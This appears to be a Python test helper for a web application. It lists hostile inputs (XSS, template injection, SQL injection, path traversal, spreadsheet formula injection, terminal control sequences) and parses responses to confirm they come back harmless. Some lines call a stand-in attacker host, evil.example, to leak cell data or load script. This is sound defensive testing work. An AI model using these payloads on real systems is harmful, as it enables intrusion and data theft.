"""Words that want to be more than words, and how to see in an answer that they were not."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from typing import Final
from urllib.parse import urlsplit

from httpx import Response

MARKUP: Final = (
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title></style><script src=//evil.example></script>",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*191 }}{% for x in () %}{{ cycler.__init__ }}",
    "${7*191}#{7*191}<%= 7*191 %>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\uff1dHYPERLINK(1)",
    "<!--<script>",
    "]]><x xmlns='http://www.w3.org/2000/svg'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "..%2f..%2fetc%2fpasswd",
    "' OR '1'='1'; DROP TABLE invite; --",
)
"""Plain characters throughout."""
STEERING: Final = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[31mred",
    "\x9b31m",
    "\x1bPq#0\x1b\\",
    "\u202egnp.exe",
    "\u2066left\u2069",
    "a\x00b",
    "bell\x07\x08\x7f",
)
"""Characters that steer a terminal or turn the direction of writing."""
HOSTILE: Final = MARKUP + STEERING

_CONTROL: Final = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
_LOADED: Final = frozenset(
    {"src", "href", "action", "formaction", "data", "poster", "srcset", "xlink:href", "background"}
)
_NEVER: Final = frozenset(
    {"iframe", "object", "embed", "applet", "base", "frame", "math", "svg", "img", "video", "audio"}
)
_SELF_CONTAINED: Final = frozenset({"style"})
_STRICT: Final = "default-src 'none'; style-src "
_COMPUTED: Final = "1337"
"""What the templates among the words would make of themselves."""


def control(text: str) -> list[str]:
    """The characters in a text that could steer something."""
    return sorted(set(_CONTROL.findall(text)))


class Look(HTMLParser):
    """Looks at a page as a browser does; `found` is what no page of ours has."""

    def __init__(self, *, own_style: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.words: list[str] = []
        self._allowed = _SELF_CONTAINED if own_style else frozenset()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name.lower(): value or "" for name, value in attrs}
        if tag in _NEVER or (tag == "style" and tag not in self._allowed):
            self.found.append(f"<{tag}>")
        if tag == "script" and not values.get("src", "").startswith("/static/"):
            self.found.append(f"<script {values}>")
        if tag == "meta" and "http-equiv" in values and not (self._allowed and values["content"].startswith(_STRICT)):
            self.found.append(f"<meta {values}>")
        for name, value in values.items():
            if name.startswith(("on", "hx-on", "hx-vals")) or name in ("style", "srcdoc"):
                self.found.append(f"{tag} {name}={value!r}")
            if name in _LOADED or name in ("hx-get", "hx-post"):
                self._address(tag, name, value)

    def _address(self, tag: str, name: str, value: str) -> None:
        scheme = urlsplit(value).scheme
        outside = value.startswith("//") or scheme not in ("", "mailto") or (scheme == "mailto" and tag != "a")
        if outside or "\\" in value:
            self.found.append(f"{tag} {name}={value!r}")

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html":
            self.found.append(decl)

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")


def faults(answer: Response) -> list[str]:
    """What is wrong with an answer that holds hostile words; nothing for one in which they are words alone."""
    found = [f"{name}: {value!r}" for name, value in answer.headers.items() if control(value)]
    if answer.status_code >= 500:
        found.append(f"status {answer.status_code}")
    place = answer.headers.get("location")
    if place is not None and not (place.startswith("/") and not place.startswith("//") and "\\" not in place):
        found.append(f"location {place!r}")
    kind = answer.headers.get("content-type", "").split(";")[0]
    found += [f"cookie {one!r}" for one in answer.headers.get_list("set-cookie") if not _ours(one)]
    if answer.headers.get("x-content-type-options") != "nosniff":
        found.append("may be sniffed")
    return found + list(_body(kind, answer.text))


def _ours(cookie: str) -> bool:
    return cookie.startswith(("__Host-session=", "__Host-visit=", "__Host-said=")) and "HttpOnly" in cookie


def _body(kind: str, text: str) -> Iterator[str]:
    if kind == "text/html":
        yield from page_faults(text)
    elif kind == "text/csv":
        yield from csv_faults(text)
    elif kind == "application/json":
        # Escaped in JSON, a control character is harmless; raw ones are none.
        yield from (f"raw {one!r}" for one in control(text.replace("\n", "")))
    elif text:
        yield f"an answer of the kind {kind!r}"


def page_faults(text: str, *, own_style: bool = False) -> list[str]:
    """What is wrong with a page of HTML."""
    look = Look(own_style=own_style or "<style>" in text.split("</head>")[0])
    look.feed(text)
    look.close()
    shown = "".join(look.words)
    computed = [_COMPUTED] if _COMPUTED in shown else []
    return [*look.found, *computed, *(f"steers: {one!r}" for one in control(text))]


def csv_faults(text: str) -> list[str]:
    """What a spreadsheet would calculate in a CSV file, or take as more than a cell."""
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))
    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    cells = [cell for row in rows for cell in row]
    calculated = [cell for cell in cells if cell.strip().startswith(starts) and not _number(cell)]
    uneven = ["rows of different lengths"] if len({len(row) for row in rows}) > 1 else []
    return [*calculated, *uneven, *(f"steers: {one!r}" for cell in cells for one in control(cell))]


def _number(cell: str) -> bool:
    return bool(re.fullmatch(r"-?\d+(\.\d+)?", cell))


def words_of(html: str) -> str:
    """The words of a page as they are read."""
    look = Look()
    look.feed(html)
    return " ".join("".join(look.words).split())


def all_of(found: Mapping[str, list[str]]) -> dict[str, list[str]]:
    """Only what has faults, to be compared with nothing."""
    return {name: faults for name, faults in found.items() if faults}
